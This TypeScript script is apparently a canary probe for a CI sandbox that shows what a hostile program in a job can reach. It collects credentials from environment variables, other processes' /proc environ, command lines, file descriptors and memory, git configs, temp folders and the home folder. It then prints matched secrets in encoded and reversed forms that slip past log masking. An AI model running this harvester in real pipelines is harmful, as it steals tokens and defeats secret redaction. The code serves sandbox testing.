import {
  constants,
  mkdirSync,
  openSync,
  readdirSync,
  readFileSync,
  readlinkSync,
  readSync,
  statSync,
  writeFileSync,
} from "node:fs";
import { basename, dirname, join } from "node:path";

/**
 * What a hostile program can read in a job: `node probe.ts FOLDER RUNNER MARKER`. One file for each way is
 * left in FOLDER, and every secret it comes across is printed in several forms. Of the machine it looks at nothing
 * but the processes below RUNNER, the runner's own process, or those of its own namespace, and at the job's folders.
 */
const [place = "", runner = "", marker = ""] = process.argv.slice(2);
/** Checkouts for a hidden folder are made elsewhere, under its path. */
const here = process
  .cwd()
  .replace(/^\/var\/tmp\/ralph-\d+/, "")
  .replace("/_cache/", "/.cache/");
const work = /^.*?\/work(?=\/(?:_temp|example\/example)(?:\/|$))/.exec(here)?.[0] ?? "";
const folder = join(place, basename(dirname(work)), String(process.pid));
const wanted = new RegExp(`${marker}/\\w+\\+[0-9a-f]{40}|basic [A-Za-z0-9+/=]{20,}`, "gi");

const attempt = <Result>(work: () => Result): Result | undefined => {
  try {
    return work();
  } catch {
    return undefined;
  }
};
const read = (path: string) => attempt(() => readFileSync(path)) ?? Buffer.alloc(0);
const names = (path: string) => attempt(() => readdirSync(path)) ?? [];

function filesBelow(path: string): string[] {
  const entries = attempt(() => readdirSync(path, { recursive: true, withFileTypes: true })) ?? [];
  const files = entries.filter((entry) => entry.isFile());
  return files.map((entry) => join(entry.parentPath, entry.name));
}

const parentOf = (pid: string) => /^PPid:\s*(\d+)/m.exec(String(read(`/proc/${pid}/status`)))?.[1];

function isOfJob(pid: string): boolean {
  if (pid === "1") return String(read("/proc/1/comm")).trim() === "bwrap";
  const parent = parentOf(pid);
  if (parent === undefined || parent === "0") return false;
  return parent === runner || isOfJob(parent);
}

/** The one that looks from outside knows every secret, and is no part of the job. */
const isWatcher = (pid: string) => read(`/proc/${pid}/cmdline`).includes("canaries/watcher");

const others = names("/proc")
  .filter((name) => /^\d+$/.test(name) && name !== String(process.pid))
  .filter((pid) => isOfJob(pid) && !isWatcher(pid));

/** Regular files, and the descriptor action.yml hands keys over by; nothing that would wait. */
function descriptorsOf(pid: string): Buffer[] {
  return names(`/proc/${pid}/fd`).map((name) => {
    const path = `/proc/${pid}/fd/${name}`;
    const isFile = attempt(() => statSync(path).isFile()) === true;
    if (!isFile && name !== "3") return Buffer.from(attempt(() => readlinkSync(path)) ?? "");
    return attempt(() => readAtOnce(path)) ?? Buffer.alloc(0);
  });
}

function readAtOnce(path: string): Buffer {
  const buffer = Buffer.alloc(4096);
  const descriptor = openSync(path, constants.O_RDONLY | constants.O_NONBLOCK);
  return buffer.subarray(0, readSync(descriptor, buffer));
}

/** Only what looks like a secret: nobody wants a copy of all memory. */
function memoryOf(pid: string): Buffer[] {
  const memory = attempt(() => openSync(`/proc/${pid}/mem`, "r"));
  if (memory === undefined) return [];
  const regions = String(read(`/proc/${pid}/maps`)).matchAll(/^([0-9a-f]+)-([0-9a-f]+) rw/gm);
  return Array.from(regions).flatMap(([, from, to]) => {
    const [start, end] = [Number(`0x${from}`), Number(`0x${to}`)];
    const size = Math.min(end - start, window.length);
    const length = attempt(() => readSync(memory, window, 0, size, start)) ?? 0;
    return cluesIn(window.subarray(0, length));
  });
}

const window = Buffer.alloc(2 ** 26);
const clues = [marker, "basic "];

function cluesIn(content: Buffer): Buffer[] {
  return clues.flatMap((clue) => {
    const found: Buffer[] = [];
    for (let at = content.indexOf(clue); at >= 0; at = content.indexOf(clue, at + 1)) {
      found.push(Buffer.from(content.subarray(at, at + 200)), Buffer.from("\n"));
    }
    return found;
  });
}

/** Those of this folder and of the job's checkout, with the files they include. */
function gitConfigs(): Buffer[] {
  const checkouts = names(work).map((name) => join(work, name, name));
  const own = [process.cwd(), ...checkouts].map((root) => read(join(root, ".git/config")));
  const included = String(Buffer.concat(own)).matchAll(/^\s*path\s*=\s*(.+)$/gm);
  return [...own, ...Array.from(included, ([, path = ""]) => read(path))];
}

const routes: Record<string, () => Buffer[]> = {
  env: () => Object.entries(process.env).map(([name, value]) => Buffer.from(`${name}=${value}\n`)),
  environ: () => others.map((pid) => read(`/proc/${pid}/environ`)),
  cmdline: () => others.map((pid) => read(`/proc/${pid}/cmdline`)),
  descriptors: () => others.flatMap(descriptorsOf),
  memory: () => others.flatMap(memoryOf),
  git: gitConfigs,
  temporary: () => filesBelow(join(work, "_temp")).map(read),
  home: () => filesBelow(process.env.HOME ?? "").map(read),
};

function show(secret: string): void {
  const bytes = Buffer.from(secret);
  console.log(secret, bytes.toString("base64"), bytes.toString("hex"), encodeURIComponent(secret));
  console.log([...secret].reverse().join(""));
}

mkdirSync(folder, { recursive: true });
const printed = new Set<string>();
for (const [name, route] of Object.entries(routes)) {
  const content = Buffer.concat(route());
  writeFileSync(join(folder, name), content);
  for (const secret of content.toString("latin1").match(wanted) ?? []) printed.add(secret);
}
printed.forEach(show);
